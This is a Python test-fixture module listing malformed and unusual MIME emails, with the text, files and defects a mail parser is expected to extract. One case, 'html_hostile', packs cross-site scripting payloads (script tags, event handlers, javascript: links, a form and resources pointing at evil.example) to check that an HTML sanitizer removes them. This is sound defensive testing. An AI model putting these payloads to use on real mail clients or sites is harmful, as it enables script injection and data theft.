"""Mails with parts and bodies that are wrong, or unusual, by the standards."""

from base64 import b64encode

from tests.mail.corpus.make.habits.broken import LONG, MIXED, PLAIN, PNG, parts, tnef, tnef_of_rich_text
from tests.mail.corpus.make.habits.building import b64, html, mail, word

MAILS = {
    "base64_one_line": (
        mail("Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: BASE64", b64(LONG.encode())),
        {"text": LONG},
    ),
    "qp_lower_case_and_soft": (
        mail(
            "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable",
            "=e4=bd=a0=\n=e5=a5=bd=20=  \nend=",
        ),
        {"text": "你好 end", "defects": None},
    ),
    "qp_broken": (
        mail(
            "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable",
            "50% = half, a=b, =E4=BD=A0",
        ),
        {"text": "50% = half, a=b, 你", "defects": ["encoding_broken"]},
    ),
    "encoding_unknown": (
        mail("Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: x-magic", "hello"),
        {"text": "hello", "defects": ["encoding_unknown"]},
    ),
    "encoding_told_of_multipart": (
        mail(f"{MIXED}\nContent-Transfer-Encoding: base64", "--b\nContent-Type: text/plain\n\nhello\n--b--"),
        {"text": "hello", "defects": None},
    ),
    "alternative_plain_empty": (
        parts(
            "Content-Type: text/plain\n\n \n",
            "Content-Type: text/html; charset=utf-8\n\n<p>真正的內容</p>",
            head=MIXED.replace("mixed", "alternative"),
        ),
        {"text": "真正的內容"},
    ),
    "alternative_plain_excuse": (
        parts(
            "Content-Type: text/plain\n\nThis mail is in HTML. Please use a modern mail reader.\n",
            "Content-Type: text/html; charset=utf-8\n\n<p>真正的內容在這裡，請看。</p><p>謝謝您的協助。</p>",
            head=MIXED.replace("mixed", "alternative"),
        ),
        {"text": "真正的內容在這裡，請看。\n\n謝謝您的協助。"},
    ),
    "html_only": (
        html(
            "<html><head><style>p{color:red}</style><title>t</title></head><body><p>第一段<br>第二行</p><ul><li>一</li><li>二</li></ul><table><tr><td>a</td><td>b</td></tr></table><pre>x  y\n z</pre></body></html>"
        ),
        {"text": "第一段\n第二行\n\n- 一\n- 二\n\na | b\n\nx  y\n z"},
    ),
    "html_links": (
        html(
            '<p><a href="https://x.example/long?a=1">click here</a>, <a href="https://y.example">https://y.example/</a>, <a href="mailto:a@b.c">a@b.c</a></p>'
        ),
        {"text": "click here <https://x.example/long?a=1>, https://y.example/, a@b.c"},
    ),
    "html_unclosed": (html("<p>one<p>two<div>three<b>four"), {"text": "one\n\ntwo\n\nthreefour"}),
    "html_two_parts": (
        parts(
            "Content-Type: text/html; charset=utf-8\n\n<p>before</p>",
            f"Content-Type: image/png; name=a.png\nContent-Transfer-Encoding: base64\n\n{PNG}",
            "Content-Type: text/html; charset=utf-8\n\n<p>after</p>",
        ),
        {"text_has": ["before", "after"], "files": [["a.png", "image/png", PNG]]},
    ),
    "text_two_parts": (
        parts(
            PLAIN,
            f"Content-Type: image/png; name=a.png\nContent-Transfer-Encoding: base64\n\n{PNG}",
            "Content-Type: text/plain\n\nSent from my iPhone",
        ),
        {"text": "請看附件。", "quoted_has": ["iPhone"], "files": [["a.png", "image/png", PNG]]},
    ),
    "html_data_image": (
        html(f'<p>see <img src="data:image/png;base64,{PNG}"></p>'),
        {"text": "see", "inline": ["", "", PNG], "files": []},
    ),
    "html_hostile": (
        html(
            '<p onclick="x()">hi</p><script>steal()</script><img src=x onerror=steal()><a href="javascript:steal()">a</a><form action="https://evil.example"><input name=p></form><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><svg onload=steal()><style>*{background:url(https://evil.example/x)}</style><iframe src="https://evil.example"></iframe><p style="background:url(https://evil.example/t.gif);color:red;position:fixed">red</p><link rel=stylesheet href="https://evil.example/c.css"><object data="https://evil.example"></object><a href="data:text/html,x">d</a><math><mi xlink:href="javascript:steal()">m</mi></math>'
        ),
        {
            "html_lacks": ["steal", "evil.example", "javascript", "onclick", "<form", "<svg", "position"],
            "html_has": ["color:red"],
            "text_has": ["hi", "red"],
        },
    ),
    "html_remote_images": (
        html(
            '<img src="https://a.example/1.png"><img src="//b.example/2.png"><img src=" HTTP://c.example/3.png"><img srcset="https://d.example/4.png 2x"><img src="/relative.png"><table background="https://e.example/5.png"><tr><td>x</td></tr></table>'
        ),
        {"blocked_images": 3, "html_lacks": ["srcset", "d.example", "e.example", "relative"]},
    ),
    "html_deep": (html("<div>" * 3000 + "deep" + "</div>" * 3000), {"text": "deep"}),
    "html_style_unclosed": (html("<p>before</p><!-- never closed <p>lost?</p>"), {"text": "before"}),
    "attachment_empty": (
        parts(
            PLAIN,
            "Content-Type: application/pdf; name=empty.pdf\nContent-Disposition: attachment; filename=empty.pdf\n\n",
        ),
        {"text": "請看附件。", "files": [["empty.pdf", "application/pdf", 0]]},
    ),
    "attachment_text": (
        parts(
            PLAIN,
            "Content-Type: text/plain; charset=big5\nContent-Disposition: attachment; filename=a.txt\n\nplain file\n",
        ),
        {"text": "請看附件。", "files": [["a.txt", "text/plain", None]]},
    ),
    "attachment_html_inline_name": (
        parts(
            PLAIN,
            "Content-Type: text/html; name=page.html\nContent-Disposition: inline; filename=page.html\n\n<p>page</p>",
        ),
        {"text": "請看附件。", "files": [["page.html", "text/html", None]]},
    ),
    "attachment_is_all": (
        mail(
            f'MIME-Version: 1.0\nContent-Type: application/pdf; name="{word("掃描.pdf", "utf-8")}"\nContent-Disposition: attachment\nContent-Transfer-Encoding: base64',
            "UERG",
        ),
        {"text": "", "files": [["掃描.pdf", "application/pdf", "UERG"]]},
    ),
    "attachment_all_have_ids": (
        parts(
            PLAIN,
            f"Content-Type: image/png; name=a.png\nContent-ID: <x1@y>\nContent-Disposition: inline; filename=a.png\nContent-Transfer-Encoding: base64\n\n{PNG}",
        ),
        {"text": "請看附件。", "files": [["a.png", "image/png", PNG]]},
    ),
    "attachment_binary": (
        mail(
            MIXED,
            b"--b\nContent-Type: application/octet-stream; name=a.bin\nContent-Transfer-Encoding: binary\n\n\x00\x01\xfe\xff\x80\n--b--",
        ),
        {"files": [["a.bin", "application/octet-stream", b64encode(b"\x00\x01\xfe\xff\x80").decode()]]},
    ),
    "inline_image": (
        mail(
            'MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b; type="text/html"',
            f'--b\nContent-Type: text/html; charset=utf-8\n\n<p>畫面<img src="cid:image001.png@01DC"></p>\n--b\nContent-Type: image/png; name=image001.png\nContent-ID: <image001.png@01DC>\nContent-Transfer-Encoding: base64\n\n{PNG}\n--b--',
        ),
        {"text": "畫面", "inline": ["", "", PNG], "files": [], "html_has": ["cid:image001.png@01DC"]},
    ),
    "mail_inside": (
        parts(
            PLAIN,
            f"Content-Type: message/rfc822\n\nFrom: c@d.example\nSubject: {word('原來的信', 'utf-8')}\nContent-Type: text/plain\n\nthe old mail",
        ),
        {"text": "請看附件。", "files": [["原來的信.eml", "message/rfc822", None]]},
    ),
    "mail_inside_base64": (
        parts(
            PLAIN,
            f"Content-Type: message/rfc822; name=old.eml\nContent-Transfer-Encoding: base64\n\n{b64(mail('Subject: old', 'the old mail'))}",
        ),
        {"text": "請看附件。", "files": [["old.eml", "message/rfc822", None]], "defects": None},
    ),
    "digest": (
        mail(
            "MIME-Version: 1.0\nContent-Type: multipart/digest; boundary=b",
            "--b\n\nSubject: one\n\nfirst\n--b\n\nSubject: two\n\nsecond\n--b--",
        ),
        {"files": [["one.eml", "message/rfc822", None], ["two.eml", "message/rfc822", None]]},
    ),
    "winmail": (
        parts(
            PLAIN,
            f"Content-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64\n\n{b64(tnef())}",
        ),
        {"text": "請看附件。", "files": [["report.txt", "text/plain", b64encode(b"what it held\n").decode()]]},
    ),
    "winmail_holds_the_words": (
        parts(
            f"Content-Type: application/octet-stream; name=winmail.dat\nContent-Transfer-Encoding: base64\n\n{b64(tnef())}"
        ),
        {"text": "Words inside winmail.dat", "files": [["report.txt", "text/plain", None]]},
    ),
    "winmail_rich_text": (
        mail(
            "MIME-Version: 1.0\nContent-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64",
            b64(
                tnef_of_rich_text(rb"{\rtf1\ansi\ansicpg950\fromhtml1 {\*\htmltag64 <p>}\'b1\'7a\'a6\'6e, hello\par }")
            ),
        ),
        {"text": "您好, hello", "files": [["message.rtf", "application/rtf", None]]},
    ),
    "winmail_broken": (
        parts(
            PLAIN,
            f"Content-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64\n\n{b64(tnef()[:70])}",
        ),
        {"text": "請看附件。", "files": [["winmail.dat", "application/ms-tnef", 70]], "defects": None},
    ),
    "uuencode_unclosed": (
        mail("Subject: x", "hello\nbegin 644 a.txt\n#0V%T\n"),
        {"text_has": ["hello", "begin 644 a.txt"]},
    ),
    "uuencode_in_words": (
        mail("Subject: x", "please begin 644 things\nand end\n"),
        {"text": "please begin 644 things\nand end"},
    ),
    "enriched": (
        mail(
            "MIME-Version: 1.0\nContent-Type: text/enriched; charset=utf-8",
            "<bold>Now</bold> is\nthe time <<here>\n\n<color><param>red</param>red</color>",
        ),
        {"text": "Now is the time <here>\nred"},
    ),
    "flowed_delsp": (
        mail(
            "Content-Type: text/plain; charset=utf-8; format=flowed; delsp=yes",
            "這是一段被 \n切開的文字。\n 前面有空白",
        ),
        {"text": "這是一段被切開的文字。\n前面有空白"},
    ),
    "apple_double": (
        parts(
            PLAIN,
            'Content-Type: multipart/appledouble; boundary=c\n\n--c\nContent-Type: application/applefile; name="report.doc"\nContent-Transfer-Encoding: base64\n\nAAUWBw==\n--c\nContent-Type: application/msword; name="report.doc"\nContent-Transfer-Encoding: base64\n\nUERG\n--c--',
        ),
        {
            "text": "請看附件。",
            "files": [["report.doc", "application/applefile", None], ["report.doc", "application/msword", "UERG"]],
        },
    ),
    "external_body": (
        parts(
            PLAIN,
            'Content-Type: message/external-body; access-type=URL; URL="https://x.example/a"\n\nContent-Type: application/pdf\n\n',
        ),
        {"text": "請看附件。", "defects": None},
    ),
    "calendar_only": (
        mail(
            "MIME-Version: 1.0\nContent-Type: text/calendar; method=REQUEST; charset=utf-8",
            "BEGIN:VCALENDAR\nEND:VCALENDAR",
        ),
        {"text": "", "files": [["attachment.ics", "text/calendar", None]]},
    ),
}
